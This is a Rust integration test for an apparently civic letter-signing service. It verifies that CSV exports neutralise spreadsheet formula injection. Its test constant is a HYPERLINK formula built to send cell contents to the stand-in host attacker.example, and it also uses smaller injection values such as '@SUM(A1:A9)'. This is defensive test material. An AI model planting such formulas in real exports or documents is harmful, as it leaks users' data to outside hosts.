//! Item 5: CSV formula injection. A public signer named
//! `=HYPERLINK(...)` came back as a live formula in a letter's
//! `report.csv`, officials' cells starting `=`, `+`, `-`, `@` likewise in
//! the export. Now no cell of either starts with a formula character, and
//! the officials export imports back exactly.

use std::time::Duration;

use nasvyazi_letters::signature_aad;
use nasvyazi_shared::auth::Role;
use nasvyazi_shared::crypto::{Keyring, random_token, token_hash};
use nasvyazi_shared::events::Event;
use nasvyazi_shared::outbox::{self, Outbox};
use nasvyazi_tests::{TestApp, eventually, spawn_app};
use serde_json::{Value, json};
use uuid::Uuid;

const EVIL: &str = "=HYPERLINK(\"http://attacker.example/?\"&A2&B2,\"Click\")";

async fn get(app: &TestApp, token: &str, path: &str) -> Vec<u8> {
    let r = app
        .http
        .get(app.url(path))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{path}");
    r.bytes().await.unwrap().to_vec()
}

/// Every cell of a CSV file, header included.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn assert_no_formula(rows: &[Vec<String>], what: &str) {
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{what}: a live formula cell {cell:?}"
        );
    }
}

#[tokio::test]
async fn no_csv_cell_the_system_writes_is_a_live_formula() {
    let app = spawn_app().await;
    let admin = app.token(Role::Admin).await;
    let official = [
        ("name", EVIL),
        ("position", "+7 701 000 0000"),
        ("organisation", "@SUM(A1:A9)"),
    ];
    let r = app
        .admin(&admin)
        .post(
            "/api/v1/admin/officials",
            json!({ "name": official[0].1, "position": official[1].1, "organisation": official[2].1,
                "email": "formula@gov.example.kz", "language": "ru", "time_zone": "Asia/Almaty",
                "office_hours": "Mon-Fri 09:00-18:00", "daily_cap": null }),
        )
        .await;
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    let official_id: Uuid = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();

    // The officials export: neutralised, and imported back exactly.
    let export = get(&app, &admin, "/api/v1/admin/officials/export").await;
    let rows = cells(&export);
    assert_no_formula(&rows, "officials export");
    assert!(rows[1].contains(&format!("'{EVIL}")), "{rows:?}");
    let back = nasvyazi_letters::officials::csv_io::parse(&app.config, &export).unwrap();
    assert_eq!(back.len(), 1);
    assert_eq!(
        (
            back[0].name.as_str(),
            back[0].position.as_str(),
            back[0].organisation.as_str()
        ),
        (official[0].1, official[1].1, official[2].1),
        "the import round-trip is exact"
    );

    // A public signer with a formula for a name, in the letter's report.
    let r = app.admin(&admin).post("/api/v1/admin/letters",
        json!({ "name": "Formula letter", "slug": "formula", "mode": "each",
                "templates": { "ru": { "subject": "S", "body": "B {{ signer.name }}", "page_text": "P" } },
                "targets": [official_id], "reply_to": "office@forum.example.kz",
                "official_interval_minutes": 0 }),
    )
    .await;
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    let letter: Uuid = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    let r = app
        .admin(&admin)
        .post(
            &format!("/api/v1/admin/letters/{letter}/approve"),
            json!({}),
        )
        .await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let keys = Keyring::from_config(&app.config.crypto).unwrap();
    let id = Uuid::now_v7();
    let (key, wrapped) = keys.new_data_key();
    let seal = |v: &str, f| key.seal(v.as_bytes(), &signature_aad(id, f));
    let withdraw = random_token(32);
    let mut tx = app.infra.db.begin().await.unwrap();
    sqlx::query(
        "INSERT INTO letter_signatures (id, letter_id, email_bi, data_key, name_ct, city_ct, note_ct, email_ct,
             language, allow_reply_to, consent_at, withdraw_token_hash, withdraw_token_ct, confirmed_at)
         VALUES ($1, $2, $3, $4, $5, $6, $7, $8, 'ru', false, now(), $9, $10, now())",
    )
    .bind(id)
    .bind(letter)
    .bind(keys.blind_index("email", "signer@example.kz"))
    .bind(wrapped)
    .bind(seal(EVIL, "name"))
    .bind(seal("-Almaty", "city"))
    .bind(seal("note", "note"))
    .bind(seal("signer@example.kz", "email"))
    .bind(token_hash(&withdraw))
    .bind(seal(&withdraw, "withdraw"))
    .execute(&mut *tx)
    .await
    .unwrap();
    outbox::enqueue(
        &mut tx,
        Outbox::Front,
        Event::SignatureConfirmed { signature_id: id },
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let path = format!("/api/v1/admin/letters/{letter}/report.csv");
    let report = eventually(Duration::from_secs(20), || async {
        let rows = cells(&get(&app, &admin, &path).await);
        (rows.len() > 1).then_some(rows)
    })
    .await;
    assert_no_formula(&report, "letter report");
    assert!(report[1].contains(&format!("'{EVIL}")), "{report:?}");
    assert!(report[1].contains(&"'-Almaty".to_string()), "{report:?}");
    app.stop().await;
}
